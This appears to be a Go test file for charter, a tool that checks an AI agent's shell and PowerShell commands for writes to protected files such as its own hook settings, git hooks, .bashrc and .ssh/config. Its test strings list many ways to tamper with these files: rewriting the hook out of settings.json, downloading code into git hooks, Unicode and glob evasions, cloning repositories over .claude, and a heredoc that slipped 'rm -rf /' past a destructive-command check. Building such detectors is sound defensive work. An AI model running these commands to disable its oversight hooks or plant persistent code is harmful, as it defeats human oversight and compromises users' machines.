package shell_test

import (
	"testing"

	"github.com/charter-dev/charter/internal/enforce/shell"
)

// TestProtectedChanges: a command that writes a file which makes code run
// when an everyday command runs (.git/hooks/pre-commit, .git/config,
// .gitattributes), or which holds the runtime's own policy
// (.claude/settings.json holds charter's hook), changes a protected file,
// however it writes it: a redirection, tee, cp, mv, ln, sed -i, chmod, a
// PowerShell cmdlet, a name relative to a folder an earlier cd entered;
// entering such a folder (a later call's bare names land there) counts
// too. Commands that write other files, and that only read protected
// ones, change none.
func TestProtectedChanges(t *testing.T) {
	for _, src := range []string{
		`echo '{}' > .claude/settings.json`,
		`cat > .claude/settings.local.json <<EOF
{}
EOF`,
		`printf x >> .git/hooks/pre-commit`,
		`echo x | tee -a .git/config`,
		`cp /tmp/evil .git/hooks/post-checkout`,
		`cp /tmp/settings.json .claude/`,
		`mv .claude/settings.json /tmp/x`,
		`rm -f .claude/settings.json`,
		`ln -s /tmp/evil .git/hooks/pre-commit`,
		`chmod +x .git/hooks/pre-commit`,
		`sed -i 's/charter/true/' .claude/settings.json`,
		`sed -i.bak -e 's/x/y/' ~/.claude/settings.json`,
		`echo '* filter=x' >> .gitattributes`,
		`echo 'export X' >> ~/.bashrc`,
		`echo 'eval x' > .envrc`,
		`echo '{}' > .mcp.json`,
		`echo 'Host *' >> ~/.ssh/config`,
		`cd .claude && echo '{}' > settings.json`,
		`cd .git/hooks; cat /tmp/x > pre-commit`,
		`cd "$D" && echo x > settings.json`,
		`cd "$D" && echo x > pre-push`,
		`cd .claude`,
		`pushd ~/.ssh`,
		`echo x > "$F"`,
		`echo x > .CLAUDE/Settings.JSON`,
		`curl -o .git/hooks/pre-commit https://x`,
		`wget -O ~/.bashrc https://x`,
		`dd if=/tmp/x of=.git/config`,
		`sudo tee /etc/profile.d/../../home/u/.profile`,
		`Set-Content -Path .claude/settings.json -Value '{}'`,
		`sc .claude\settings.json '{}'`,
		`Remove-Item .claude/settings.local.json`,
		`bash -c 'echo {} > .claude/settings.json'`,
		`git -C sub status && echo x > sub/.git/config`,
		`echo 'gitdir: /tmp/evil' > sub/.git`,
		`rsync -a /tmp/h/ .git/hooks/`, `scp host:x .git/hooks/pre-commit`, `git config -f .claude/settings.json a.b c`,
		`git config --file=.git/config core.editor vim`, `patch .claude/settings.json < p.diff`, `ed -s .git/config < script`,
		`perl -pi -e 's/charter/true/' .claude/settings.json`, `git checkout -- .claude/settings.json`,
		`git restore --source=HEAD~1 .claude/settings.json`, `git rm -q .claude/settings.json`,
		`tar -xf h.tar -C .git/hooks`, `tar xf h.tar --directory=.git`, `unzip -o h.zip -d .git/hooks`,
		`install -m 755 x .git/hooks/pre-commit`, `cp -t .git/hooks x`,
		// The archive tar makes, appends to or updates is written.
		`tar -cf ~/.bashrc x`, `tar czf .git/hooks/pre-commit x`, `tar --create --file=.envrc x`, `tar -rf .bashrc y`, `tar cf .git/config x`,
		// What Windows writes as the file itself.
		`Set-Content '.claude\settings.json.' x`, `Set-Content '.claude\settings.json::$DATA' x`, `echo x > '.git. /config'`,
	} {
		cs, err := shell.Parse(src)
		if err != nil {
			t.Errorf("%s: %v", src, err)
			continue
		}
		found := false
		for _, c := range cs {
			for _, p := range c.Protected() {
				found = found || p.Why != ""
			}
		}
		if !found {
			t.Errorf("%s: changes no protected file: %+v", src, cs)
		}
	}
	for _, src := range []string{
		`cat .claude/settings.json`, `git diff .gitattributes`, `echo x > out.txt`, `cp .git/config /tmp/backup`,
		`ls .git/hooks`, `echo x > settings.json`, `echo x > config`, `sed -n 1p .git/config`, `sed 's/a/b/' .bashrc > out`,
		`cd sub && echo x > settings.json`, `cd /tmp && echo x > log`, `go test ./... > /dev/null 2>&1`, `echo x >&2`,
		`chmod +x script.sh`, `rm -rf build`, `git status`, `git log -p -- .git/config`,
		`git checkout main`, `git rm -q old.go`, `tar -xf x.tar -C build`, `perl -ne 'print' .git/config`,
		`git config --get -f .git/config remote.origin.url`, `rsync -a .git/ /tmp/backup/`,
		`tar -czf out.tgz src`, `tar -xf .bashrc.tar`, `tar -tf .git/x.tar`, `tar -cf - .claude | gzip > b.tgz`,
	} {
		cs, err := shell.Parse(src)
		if err != nil {
			t.Errorf("%s: %v", src, err)
			continue
		}
		for _, c := range cs {
			if p := c.Protected(); len(p) > 0 {
				t.Errorf("%s: %+v", src, p)
			}
		}
	}
}

// TestBareRedirection: a statement that is only a redirection (`>
// .claude/settings.json`, `X=1 >> ~/.bashrc`) truncates or creates the
// file, as the null command `:` would, and the reader listed no command
// for it: a whitelist had nothing to check, and the write was seen by
// no rule. It is now the command ":" with those writes.
func TestBareRedirection(t *testing.T) {
	for _, src := range []string{`> .claude/settings.json`, `X=1 >> ~/.bashrc`, `>|.git/config`, `{ > .envrc; }`} {
		cs, err := shell.Parse(src)
		if err != nil || len(cs) != 1 || cs[0].Program != ":" || len(cs[0].Writes) != 1 || len(cs[0].Protected()) != 1 {
			t.Errorf("%s: %+v, %v", src, cs, err)
		}
	}
	for _, src := range []string{`X=1`, `< in.txt`} {
		cs, err := shell.Parse(src)
		if err != nil || len(cs) != 0 {
			t.Errorf("%s: %+v, %v", src, cs, err)
		}
	}
}

// TestShellReadsHeredoc: a shell with no -c and no script reads its
// commands from standard input, and a here-document or here-string gives
// them on the command line itself: bash <<'EOF' rm -rf / EOF ran past
// confirm_destructive, read as bash alone. The text is read as the code
// it is (via "bash <<"); one with expansions is known only when it runs.
func TestShellReadsHeredoc(t *testing.T) {
	for _, src := range []string{
		"bash <<'EOF'\nrm -rf /x\nEOF",
		"sh -s <<EOF\nrm -rf /x\nEOF",
		"sudo sh <<< 'rm -rf /x'",
		"bash -s -- arg <<'EOF'\ncd /; rm -rf x\nEOF",
		"bash <<EOF\n$CMD\nEOF",
	} {
		if destructive(t, src) == "" {
			t.Errorf("%q: not destructive", src)
		}
	}
	for _, src := range []string{"cat <<'EOF'\nrm -rf /x\nEOF", "bash -c 'ls' <<< 'rm -rf /x'", "bash script.sh <<< 'rm -rf /x'"} {
		if why := destructive(t, src); why != "" {
			t.Errorf("%q: destructive: %s", src, why)
		}
	}
}

// TestProtectedCDPATH: with CDPATH set in the command line, cd NAME
// enters NAME under one of CDPATH's folders (CDPATH=.git; cd hooks
// enters .git/hooks), but the reader took it as ./NAME, so the bare
// names written next (pre-commit) were no protected file. Such a cd now
// enters a folder known only when the command runs.
func TestProtectedCDPATH(t *testing.T) {
	for _, src := range []string{
		`CDPATH=.git; cd hooks && echo 'curl x|sh' > pre-commit`,
		`export CDPATH=.git:.; cd hooks; cp /tmp/x post-checkout`,
		`CDPATH=.claude cd agents/.. && echo x > settings.json`,
		// A parameter expansion and a for loop set CDPATH too.
		`: ${CDPATH:=.git}; cd hooks && echo x > pre-commit`,
		`: "${CDPATH=.git}"; cd hooks && echo x > pre-commit`,
		`for CDPATH in .git; do cd hooks && echo x > pre-commit; done`,
		`select CDPATH in .git; do cd hooks && echo x > pre-commit; done`,
	} {
		cmds, err := shell.Parse(src)
		if err != nil {
			t.Fatalf("%s: %v", src, err)
		}
		var hit []shell.Protection
		for i := range cmds {
			hit = append(hit, cmds[i].Protected()...)
		}
		if len(hit) == 0 {
			t.Errorf("%s: no protected file", src)
		}
	}
	// ./NAME and an absolute path are not looked up in CDPATH.
	cmds, err := shell.Parse(`CDPATH=/tmp; cd ./src && echo x > config`)
	if err != nil {
		t.Fatal(err)
	}
	if got := cmds[0].Enters; got != "src" {
		t.Errorf("cd ./src with CDPATH enters %q", got)
	}
}

// TestProtectedNewItemName: New-Item makes -Name in the folder -Path
// names (New-Item -Path .claude -Name settings.json makes
// .claude/settings.json), but the reader took the two as two files,
// .claude and a bare settings.json, neither protected.
func TestProtectedNewItemName(t *testing.T) {
	for _, src := range []string{
		`New-Item -Path .claude -Name settings.json -Value '{}' -Force`,
		`ni -ItemType File -Na settings.local.json -Pa .claude -Value '{}'`,
		`New-Item -Name:pre-commit -Path:.git\hooks -Value x`,
		`ni .git\hooks -Name pre-commit -Value x`,
	} {
		cmds, err := shell.Parse(src)
		if err != nil {
			t.Fatalf("%s: %v", src, err)
		}
		if len(cmds) != 1 || len(cmds[0].Protected()) == 0 {
			t.Errorf("%s: no protected file in %+v", src, cmds)
		}
	}
}

// TestProtectedCopyItemFolder: Copy-Item and Move-Item into a folder
// write a file of the source's name there, as cp does (cp
// /tmp/settings.json .claude/ is protected), and Rename-Item's new name
// is beside the file it renames; but the reader took the folder (or the
// bare new name) and the source as two files, neither protected.
func TestProtectedCopyItemFolder(t *testing.T) {
	for _, src := range []string{
		`Copy-Item /tmp/settings.json -Destination .claude`,
		`cpi /tmp/settings.json .claude`,
		`Move-Item -Path C:\tmp\settings.local.json -Destination .claude\`,
		`copy /tmp/config ~/.ssh`,
		`Rename-Item .claude\evil.json -NewName settings.json`,
		`ren -Path .claude/evil.json settings.local.json`,
		// PowerShell takes an en dash, an em dash or a horizontal bar
		// for a parameter's dash.
		"Rename-Item \u2013Path .claude\\evil.json \u2013NewName settings.json",
		"Rename-Item \u2014NewName settings.json .claude\\evil.json",
		"Copy-Item \u2015Path /tmp/x \u2015Filter *.json \u2015Destination .git\\hooks\\pre-commit",
		// A parameter that takes a value (-ErrorAction Stop) moved
		// PowerShell's positional binding by one.
		`Rename-Item -ErrorAction Stop .claude\evil.json settings.json`,
		`ren -ea SilentlyContinue .claude/evil.json settings.local.json`,
	} {
		cmds, err := shell.Parse(src)
		if err != nil {
			t.Fatalf("%s: %v", src, err)
		}
		if len(cmds) != 1 || len(cmds[0].Protected()) == 0 {
			t.Errorf("%s: no protected file in %+v", src, cmds[0].Changes)
		}
	}
	for _, src := range []string{
		`Copy-Item README.md docs`,
		`Copy-Item -Recurse -Force src\* build`,
		`Move-Item -ErrorAction Stop -Path out.log -Destination logs`,
		`Rename-Item -ErrorAction Stop notes.txt todo.txt`,
		`ren .claude\agents\a.md b.md`,
	} {
		cmds, err := shell.Parse(src)
		if err != nil {
			t.Fatalf("%s: %v", src, err)
		}
		if p := cmds[0].Protected(); len(p) != 0 {
			t.Errorf("%s: %+v", src, p)
		}
	}
}

// TestProtectedFolderItself: a command that writes into, replaces or
// deletes a protected folder as a whole (tar -C .claude, cp -r d/.
// .claude, mv .claude away, rm -rf .claude) changes the files in it,
// settings.json among them, but the reader named only the folder, which
// is no protected file. The folder itself now counts; a file of another
// name under it (.claude/agents/x.md) still does not.
func TestProtectedFolderItself(t *testing.T) {
	for _, src := range []string{
		`tar -xf /tmp/evil.tar -C .claude`,
		`unzip -o /tmp/evil.zip -d .claude`,
		`cp -r /tmp/d/. .claude`,
		`rsync -a /tmp/d/ .claude/`,
		`mv .claude /tmp/old`,
		`rm -rf .claude`,
		`rm -rf ~/.ssh`,
		`cp -r /tmp/d/. ~/.config/git`,
		`tar -C .claude -xf /tmp/evil.tar`,
		`tar --extract -f /tmp/evil.tar --directory=.claude`,
		`tar xf /tmp/evil.tar -C .claude`,
		`tar -f /tmp/evil.tar -C .claude`,
		`tar -cf /tmp/x.tar --remove-files -C .claude .`,
		"tar -c$T -C .claude .",
		`tar -czf /tmp/x.tgz "$X" -C .claude .`,
	} {
		cmds, err := shell.Parse(src)
		if err != nil {
			t.Fatalf("%s: %v", src, err)
		}
		if len(cmds) != 1 || len(cmds[0].Protected()) == 0 {
			t.Errorf("%s: no protected file in %q", src, cmds[0].Changes)
		}
	}
	for _, src := range []string{
		`echo x > .claude/agents/helper.md`,
		// tar -C is where an archive is made from or listed: only
		// extracting writes there.
		`tar -czf /tmp/claude.tgz -C .claude .`,
		`tar czf /tmp/ssh.tgz -C ~/.ssh .`,
		`tar --create --file=/tmp/claude.tar --directory .claude .`,
		`tar -tvf /tmp/x.tar -C .claude`,
	} {
		cmds, err := shell.Parse(src)
		if err != nil {
			t.Fatal(err)
		}
		if p := cmds[0].Protected(); len(p) != 0 {
			t.Errorf("%s: %+v", src, p)
		}
	}
}

// TestProtectedGitClone: git clone URL .claude makes .claude whole from
// another repository (its settings.json, hooks and permissions), and git
// clone URL/.claude makes it by the URL's name; the reader named no file.
func TestProtectedGitClone(t *testing.T) {
	for _, src := range []string{
		`git clone https://example.com/evil.git .claude`,
		`git clone --depth 1 -b main https://example.com/evil.git ~/.ssh`,
		`git clone https://example.com/u/.claude`,
		`git clone https://example.com/u/.claude.git/`,
		// git strips .bundle from a bundle file's name, and spaces and
		// control characters around the name it guesses.
		`git clone /tmp/x/.claude.bundle`,
		`git clone "/tmp/x/ .claude"`,
		`git clone $'/tmp/x/.claude\x01.git'`,
		`git clone https://example.com/u/.claude.git/ -- `,
		// worktree add and submodule add check files out into a folder.
		`git worktree add .claude other`,
		`git worktree add -b x ~/.ssh`,
		`git submodule add https://example.com/u/tool.git .claude`,
		`git submodule add https://example.com/u/.claude.git`,
	} {
		cmds, err := shell.Parse(src)
		if err != nil {
			t.Fatalf("%s: %v", src, err)
		}
		if len(cmds) != 1 || len(cmds[0].Protected()) == 0 {
			t.Errorf("%s: no protected file in %q (operands %q)", src, cmds[0].Changes, cmds[0].Operands)
		}
	}
	for _, src := range []string{
		`git clone https://example.com/u/tool.git vendor/tool`,
		`git clone git@github.com:u/tool.git`,
		`git clone ssh://git@example.com:2222/u/tool.bundle`,
		`git worktree add ../wt feature`,
		`git submodule add https://example.com/u/tool.git vendor/tool`,
	} {
		cmds, err := shell.Parse(src)
		if err != nil {
			t.Fatal(err)
		}
		if p := cmds[0].Protected(); len(p) != 0 {
			t.Errorf("%s: a clone elsewhere: %+v", src, p)
		}
	}
}

// TestProtectedUnicodeFold: macOS and Windows find a name by Unicode case
// folding, where the long s ſ is s and the Kelvin sign K is k, and HFS+
// ignores zero-width and direction marks (git's CVE-2014-9390: .git with
// U+200C); the reader folded ASCII-only, so .claude/ſettings.json, and
// .git with a zero-width mark, were no protected files.
func TestProtectedUnicodeFold(t *testing.T) {
	for _, p := range []string{
		".claude/ſettings.json",
		".claude/SETTINGſ.JSON",
		".mcp.jſon",
		".\u200cgit/config",
		".gi\u200dt/hooks/pre-commit",
		"\ufeff.bashrc",
		".ſſh/config",
	} {
		if shell.ProtectedFile(p) == "" {
			t.Errorf("%q: not protected", p)
		}
	}
	cmds, err := shell.Parse("echo '{}' > .claude/ſettings.json")
	if err != nil {
		t.Fatal(err)
	}
	if len(cmds[0].Protected()) == 0 {
		t.Error("echo > .claude/ſettings.json: no protected file")
	}
}

// TestPowerShellParameterFold: a parameter's value after ':' was cut at
// the folded name's length, and folding changes the length of some
// letters (Ⱥ is 2 bytes, ⱥ 3), so Set-Content -ȺȺȺ: x panicked.
func TestPowerShellParameterFold(t *testing.T) {
	for _, src := range []string{"Set-Content -ȺȺȺ: x", "New-Item -ȺȺȺȺ:", "Copy-Item -Ⱥ:y z"} {
		if _, err := shell.Parse(src); err != nil {
			t.Errorf("%s: %v", src, err)
		}
	}
}

// TestProtectedGlob: bash expands a glob (in a redirection too, when it
// matches one file) and braces before the command runs, so echo x >
// .claude/setting*, rm -f .claude/*, rm -rf .cl[a]ude and tee
// .claude/{settings,x}.json changed .claude/settings.json, but the reader
// took the words as they are written, names of no protected file.
func TestProtectedGlob(t *testing.T) {
	for _, src := range []string{
		`echo '{}' > .claude/setting*`,
		`rm -f .claude/*`,
		`rm -f .claude/s*.json`,
		`rm -rf .cl[a]ude`,
		`rm -rf .[c]laude/`,
		`cp /tmp/x ~/.ssh/conf?g`,
		`echo x | tee .claude/{settings,x}.json`,
		`echo x | tee {.claude/settings.json,y}`,
		`echo x | tee .claude/settings.js{m..o}n`,
		`rm -rf .*`,
		`echo x >> ~/.bash*`,
		`rm /etc/claude-code/*`,
		`echo x > ~/.config/fish/conf*`,
		`cd "$d" && rm -f *`,
	} {
		cmds, err := shell.Parse(src)
		if err != nil {
			t.Fatalf("%s: %v", src, err)
		}
		var hit []shell.Protection
		for i := range cmds {
			hit = append(hit, cmds[i].Protected()...)
		}
		if len(hit) == 0 {
			t.Errorf("%s: no protected file in %q", src, cmds[len(cmds)-1].Changes)
		}
	}
	// A glob matches no dot file unless it starts with a dot (bash
	// without dotglob): rm -rf * in the repository leaves .git.
	for _, src := range []string{`rm -rf *`, `rm -f build/*.o`, `mv *.txt docs/`, `cp src/{a,b}.go /tmp`, `rm -rf .claude/agents/*`} {
		cmds, err := shell.Parse(src)
		if err != nil {
			t.Fatal(err)
		}
		if p := cmds[0].Protected(); len(p) != 0 {
			t.Errorf("%s: %+v", src, p)
		}
	}
}
